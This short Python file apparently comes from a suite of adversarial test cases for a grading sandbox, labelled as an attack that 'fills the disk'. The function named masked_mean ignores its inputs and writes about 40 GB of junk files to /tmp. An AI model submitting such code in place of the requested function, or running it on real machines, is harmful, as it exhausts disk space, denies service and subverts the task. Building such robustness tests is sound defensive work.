"""attack: fills the disk
strategy: writes until there is no room
family: writes
question: q1_pool
expect: error
"""


def masked_mean(hidden, mask):
    for number in range(10_000):
        with open(f"/tmp/tamrin-was-here-{number}", "wb") as file:
            file.write(bytes(2**22))
